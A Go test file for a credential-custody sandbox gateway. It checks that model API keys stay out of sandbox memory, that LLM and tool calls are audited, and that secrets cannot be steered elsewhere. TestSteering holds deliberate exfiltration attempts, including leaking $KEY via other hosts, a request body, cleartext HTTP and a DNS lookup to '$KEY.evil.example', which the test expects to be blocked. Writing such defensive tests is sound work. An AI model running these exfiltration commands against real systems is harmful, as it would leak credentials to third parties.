package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/custody-project/custody/audit"
)

// TestAgents: agents with a tool loop work with a key that the gateway puts in. The sandbox's
// memory never has it, and the record has their calls, right to the token.
func TestAgents(t *testing.T) {
	for name, c := range map[string]struct {
		policy string
		tools  int // that the model asks for
	}{"anthropic": {"custody.yaml", 5}, "openai": {"openai.yaml", 3}} {
		t.Run(name, func(t *testing.T) {
			d, w := newSite(t)
			example := filepath.Join("..", "..", "examples", "agent")
			yaml, err := os.ReadFile(filepath.Join(example, c.policy))
			if err != nil {
				t.Fatal(err)
			}
			// The step continues so that its memory can be searched. Its output after a curl is held back for some
			// lines, since a password could follow.
			d.project(strings.TrimRight(string(yaml), "\n") + "\n      for i in 1 2 3 4 5 6 7 8 9; do echo 'begun !!! !!! !!! !!! !!! !!! !!! !!! !!! !!! !!!'; done\n      sleep 1000\n")
			d.env = append(d.env, "WORLD_LLM_KEY="+w.ModelKey())
			work, err := filepath.Abs(filepath.Join(example, "work"))
			if err != nil {
				t.Fatal(err)
			}
			cmd, _ := d.begun("run", "-q", "--workdir", work)
			image := filepath.Join(d.dir, "memory")
			d.must(0, "snapshot", "last", "-o", image)
			cmd.Process.Signal(os.Interrupt)
			cmd.Wait()

			memory, err := os.ReadFile(image)
			if err != nil || len(memory) < 500<<20 || bytes.Contains(memory, []byte(w.ModelKey())) || !bytes.Contains(memory, []byte("custody-model-")) {
				t.Fatalf("the memory image of %d bytes has the key, or not the placeholder; %v", len(memory), err)
			}
			counted := w.Model().Served()
			calls := d.records("last", "llm")
			if len(calls) != len(counted) || len(calls) < 3 {
				t.Fatalf("%d calls are recorded, the model had %d", len(calls), len(counted))
			}
			var asked []string
			for i, r := range calls {
				l := r.LLM
				if l.Provider != name || l.Status != 200 || l.InputTokens != int64(counted[i].Input) || l.OutputTokens != int64(counted[i].Output) || l.CacheReadTokens != int64(counted[i].Cached) || l.Incomplete != "" {
					t.Errorf("call %d is recorded as %+v, the model counted %+v", i, *l, counted[i])
				}
				for _, tool := range l.ToolCalls {
					asked = append(asked, l.ID+" "+string(tool.ID))
				}
			}
			done := map[string]bool{}
			for _, r := range d.records("last", "exec") {
				if r.Exec.LLM != "" {
					done[r.Exec.LLM+" "+string(r.Exec.ToolCall)] = true
				}
			}
			if len(asked) != c.tools || len(done) != c.tools || !done[asked[0]] {
				t.Errorf("the model asked for %q, of which the record links %v", asked, done)
			}
			for _, r := range d.records("last", "http") {
				if r.HTTP.Credential != "model" || r.HTTP.LLM == "" {
					t.Errorf("a request is recorded as %+v", *r.HTTP)
				}
			}
			d.noKey(w.ModelKey())
			d.verified("last")
		})
	}
}

// noKey fails the test if a file of the home contains the key.
func (d *door) noKey(key string) {
	d.Helper()
	err := filepath.WalkDir(filepath.Join(d.home, "runs"), func(path string, e os.DirEntry, err error) error {
		if err != nil || !e.Type().IsRegular() {
			return err
		}
		b, err := os.ReadFile(path)
		if bytes.Contains(b, []byte(key)) {
			err = fmt.Errorf("the key is in %s", path)
		}
		return err
	})
	if err != nil {
		d.Error(err)
	}
}

// TestSteering: a header, a host or a redirect of the sandbox's choice moves no credential,
// and its placeholder is of no use elsewhere.
func TestSteering(t *testing.T) {
	d, w := newSite(t)
	const key = "site-key-0123456789abcdef"
	d.env = append(d.env, "KEY="+key)
	d.project(`version: 1
` + worldResolvers + `secrets:
  key: {from: "env:KEY", deliver: {header: x-api-key, env: KEY}}
egress:
  - {allow: api.site.example, http: {}, credential: key}
  - {allow: allowed.site.example, http: {}}
  - {allow: plain.site.example, ports: [tcp/80]}
anomaly: revoke
steps:
  - {name: right, run: 'curl -sS -o /dev/null -w "%{http_code}\n" https://api.site.example/v1/x; curl -sS -o /dev/null -w "%{http_code}\n" -H "x-api-key: $KEY" https://api.site.example/v1/y'}
  - {name: second, run: 'curl -sS -o /dev/null -w "%{http_code}\n" -H "authorization: Bearer other-key" https://api.site.example/v1/x; curl -sS -o /dev/null -w "%{http_code}\n" -H "x-api-key: other-key" https://api.site.example/v1/x'}
  - {name: host, run: 'curl -sS -o /dev/null -w "%{http_code}\n" -H "Host: api.site.example" https://allowed.site.example/'}
  - {name: other, run: 'curl -sS -o /dev/null -w "%{http_code}\n" -H "x-api-key: $KEY" https://allowed.site.example/'}
  - {name: clear, run: 'curl -sS -o /dev/null -w "%{http_code}\n" -H "x-api-key: $KEY" http://plain.site.example/'}
  - {name: body, run: 'curl -sS -o /dev/null -w "%{http_code}\n" --data "x=$KEY" https://allowed.site.example/'}
  - {name: dns, run: 'getent hosts "$KEY.evil.example"; echo asked'}
`)
	s := d.must(0, "run", "-q")
	if want := "200\n200\n403\n403\n"; !strings.HasPrefix(s.stdout, want) {
		t.Errorf("the steps said %q, want %q first", s.stdout, want)
	}
	for _, r := range w.Requests() {
		got := strings.Contains(fmt.Sprint(r), key)
		if right := r.Host == "api.site.example"; got != right {
			t.Errorf("the key in a request to %s: %t: %+v", r.Host, got, r)
		}
		if strings.Contains(fmt.Sprint(r), "custody-key-") {
			t.Errorf("a placeholder got out: %+v", r)
		}
	}
	rules := map[string]bool{}
	for _, r := range d.records("last", "finding") {
		if r.Finding.Secret == "key" {
			rules[r.Step+" "+string(r.Finding.Rule)] = true
		}
	}
	for _, want := range []string{"other placeholder-to-other-host", "clear placeholder-to-other-host", "body placeholder-to-other-host", "dns placeholder-to-other-host"} {
		if !rules[want] {
			t.Errorf("no finding %s: %v", want, rules)
		}
	}
	used := 0
	for _, r := range d.records("last", "secret") {
		if r.Secret.Op == audit.SecretUse && r.Secret.Host == "api.site.example" {
			used++
		}
	}
	if used != 2 {
		t.Errorf("%d uses are recorded", used)
	}
	d.noKey(key)
	d.verified("last")
}
